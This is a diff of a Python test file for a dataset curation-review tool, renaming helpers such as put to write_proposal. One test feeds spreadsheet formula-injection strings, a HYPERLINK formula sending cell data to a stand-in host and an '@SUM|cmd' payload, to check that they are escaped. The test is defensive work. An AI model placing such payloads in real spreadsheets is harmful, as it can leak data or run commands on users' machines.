@@ -10,18 +10,18 @@ import pytest
 
 from gamut.evaluation.curating import review as reviewing
 from gamut.project.errors import UserError
-from stages.prism.room import ROOM
+from stages.prism.curation import CURATION
 from tests.prism.small_dataset import EDITION
-from tests.prism.small_proposal import CAT, DOG, LOST, OWL, REVIEW, fill_in, proposed, put, sheet
+from tests.prism.small_proposal import CAT, DOG, LOST, OWL, REVIEW, fill_in, proposed, sheet, write_proposal
 
-review, read_review = partial(reviewing.review, ROOM), partial(reviewing.read_review, ROOM)
-PROPOSED, DECIDED = reviewing.proposed_columns(ROOM), reviewing.decided_columns(ROOM)
+review, read_review = partial(reviewing.review, CURATION), partial(reviewing.read_review, CURATION)
+PROPOSED, DECIDED = reviewing.proposed_columns(CURATION), reviewing.decided_columns(CURATION)
 ACCEPT, REJECT = {"decision": "accept"}, {"decision": "reject", "remark": "which cat?"}
 REWRITE = {"decision": "rewrite", "new_prompt": "a cubist hound"}
 
 
 def test_all_that_can_be_frozen_is_listed(project: Path) -> None:
-    put(CAT, DOG, OWL, LOST)
+    write_proposal(CAT, DOG, OWL, LOST)
     assert list(review(EDITION)) == [f"{REVIEW}: 3 proposed, 3 to be decided", "not among them: 1 near_duplicate"]
     rows = sheet()
     assert [row["id"] for row in rows] == [CAT["id"], DOG["id"], OWL["id"]]
@@ -31,11 +31,11 @@ def test_all_that_can_be_frozen_is_listed(project: Path) -> None:
 
 
 def test_decisions_stay_with_their_texts_whatever_their_ids(project: Path) -> None:
-    put(CAT, DOG, OWL)
+    write_proposal(CAT, DOG, OWL)
     list(review(EDITION))
     fill_in({CAT["id"]: REJECT, DOG["id"]: REWRITE, OWL["id"]: ACCEPT})
     moved = proposed("style", 5, CAT["prompt"])  # another rank
-    put(moved, DOG, OWL)
+    write_proposal(moved, DOG, OWL)
     assert list(review(EDITION)) == [f"{REVIEW}: 3 proposed, 1 reject, 1 rewrite, 1 accept"]
     first, second, _ = sheet()
     assert (first["id"], first["decision"], first["remark"]) == (moved["id"], "reject", "which cat?")
@@ -46,10 +46,10 @@ def test_decisions_stay_with_their_texts_whatever_their_ids(project: Path) -> No
 
 
 def test_decisions_about_texts_that_changed_are_lost_only_when_git_has_them(project: Path) -> None:
-    put(CAT, DOG)
+    write_proposal(CAT, DOG)
     list(review(EDITION))
     fill_in({CAT["id"]: REJECT, DOG["id"]: ACCEPT})
-    put(CAT | {"prompt_zh": "立体派的猫"}, DOG)
+    write_proposal(CAT | {"prompt_zh": "立体派的猫"}, DOG)
     before = REVIEW.read_bytes()
     with pytest.raises(UserError, match=r"v1\.csv: 1 of the rows that you filled in are about .*: commit it first"):
         list(review(EDITION))
@@ -65,10 +65,10 @@ def test_decisions_about_texts_that_changed_are_lost_only_when_git_has_them(proj
 
 @pytest.mark.parametrize("entered", [{"remark": "which cat?"}, {"reviewer": "ann"}])
 def test_a_remark_is_not_lost_without_a_word(project: Path, entered: dict[str, str]) -> None:
-    put(CAT, DOG)
+    write_proposal(CAT, DOG)
     list(review(EDITION))
     with_column({CAT["id"]: entered})
-    put(DOG)
+    write_proposal(DOG)
     before = REVIEW.read_bytes()
     with pytest.raises(UserError, match=r"v1\.csv: 1 of the rows that you filled in"):
         list(review(EDITION))
@@ -76,10 +76,10 @@ def test_a_remark_is_not_lost_without_a_word(project: Path, entered: dict[str, s
 
 
 def test_columns_of_ones_own_stay(project: Path) -> None:
-    put(CAT, DOG)
+    write_proposal(CAT, DOG)
     list(review(EDITION))
     with_column({CAT["id"]: {"reviewer": "ann"}})
-    put(CAT, DOG, OWL)
+    write_proposal(CAT, DOG, OWL)
     list(review(EDITION))
     assert [row["reviewer"] for row in sheet()] == ["ann", "", ""]
     assert list(sheet()[0]) == [*PROPOSED, *DECIDED, "reviewer"]
@@ -90,7 +90,7 @@ def with_column(entered: dict[str, dict[str, str]]) -> None:
 
 
 def test_what_a_spreadsheet_does_to_white_space_changes_no_text(project: Path) -> None:
-    put(proposed("style", 0, "a cubist cat  and\na dog"))
+    write_proposal(proposed("style", 0, "a cubist cat  and\na dog"))
     list(review(EDITION))
     fill_in({"style-00000000": {"prompt": " a cubist cat and a dog ", "decision": "accept"}})
     assert list(review(EDITION)) == [f"{REVIEW}: 1 proposed, 1 accept"]
@@ -98,7 +98,7 @@ def test_what_a_spreadsheet_does_to_white_space_changes_no_text(project: Path) -
 
 def test_no_spreadsheet_computes_what_a_model_proposes_and_texts_come_back_as_they_were(project: Path) -> None:
     texts = ('=HYPERLINK("http://x"&A1)', "@SUM(1)|cmd", "'-7 cats", "'quoted' cats")
-    put(*(proposed("style", n, text) for n, text in enumerate(texts)))
+    write_proposal(*(proposed("style", n, text) for n, text in enumerate(texts)))
     list(review(EDITION))
     assert [row["prompt"] for row in sheet()] == [f"'{text}" for text in texts[:3]] + [texts[3]]
     fill_in({row["id"]: REWRITE | {"new_prompt": "-1 cat", "remark": "+"} for row in sheet()})
@@ -121,7 +121,7 @@ def test_no_spreadsheet_computes_what_a_model_proposes_and_texts_come_back_as_th
     ],
 )
 def test_a_mistake_is_named_by_its_line(project: Path, entered: dict[str, str], words: str) -> None:
-    put(DOG, OWL)
+    write_proposal(DOG, OWL)
     list(review(EDITION))
     fill_in({OWL["id"]: entered})
     with pytest.raises(UserError) as error:
